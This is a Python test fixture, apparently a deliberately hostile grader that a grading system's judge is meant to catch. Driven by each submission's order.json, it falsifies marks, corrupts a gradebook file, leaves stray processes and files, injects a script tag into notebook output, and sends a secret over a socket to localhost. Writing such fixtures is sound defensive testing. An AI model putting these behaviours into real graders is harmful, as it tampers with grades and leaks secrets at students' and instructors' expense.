"""A grader that does what a submission's order.json says: the judge must catch it.

It has the interface of :mod:`tests.grading.attacks.ours`. Without an order it gives what the
honest answers are worth.
"""

import json
import socket
import subprocess
import sys
from pathlib import Path

from grading.engine.record import GRADED, PASSED, WRONG, NotebookRecord, Record, Result
from tests.grading.attacks.classroom import SECRETS
from tests.grading.attacks.form import TASKS

SPOILT = "spoil the next"


def main() -> None:
    """Follow the orders."""
    job = json.loads(Path(sys.argv[1]).read_text(encoding="utf-8"))
    before = ""
    with open(job["results"], "w") as results:
        for student, folder in job["submissions"]:
            file = Path(folder) / "order.json"
            order = json.loads(file.read_text()) if file.is_file() else {"do": ""}
            if order["do"] == "nothing":
                continue
            given = {"double": 2.0} if student.startswith("attack-") else dict(TASKS)
            if before == SPOILT:
                given["double"] = 0.0
            before = order["do"]
            record = follow(order, given)
            line = {"student": student, "record": record.to_json(), "digest": record.digest}
            results.write(json.dumps({**line, "seconds": 0.1}) + "\n")


def follow(order: dict, given: dict) -> Record:
    """Do one thing that a grader must not, and return the record."""
    cells = []
    match order["do"]:
        case "full marks":
            given = dict(TASKS)
        case "no marks":
            given = {}
        case "leave a file":
            (Path(order["victim"]) / "left.txt").write_text("x")
        case "change the gradebook":
            (Path(order["victim"]) / "gradebook.db").write_bytes(b"garbage")
        case "leave a process":
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(20)"])
        case "leave shared memory":
            Path(f"/dev/shm/attack-{order['name']}").write_text("x")
        case "leave work":
            Path("attack-work.txt").write_text("x")
        case "show a secret":
            cells = [{"cell_type": "code", "source": "", "outputs": [SECRETS["hidden tests"]]}]
        case "show a script":
            script = "<script>document.title = 'attack-x'</script>"
            cells = [{"cell_type": "code", "outputs": [{"data": {"text/html": script}}]}]
        case "send a secret":
            with socket.create_connection(("127.0.0.1", order["port"])) as connection:
                connection.sendall(f"{order['name']} {SECRETS['gradebook']}".encode())
    results = [
        Result(f"test-{task}", PASSED if task in given else WRONG, given.get(task, 0.0), points)
        for task, points in TASKS.items()
    ]
    return Record("key", "hw", GRADED, notebooks=[NotebookRecord("all", results, cells)])


if __name__ == "__main__":
    main()
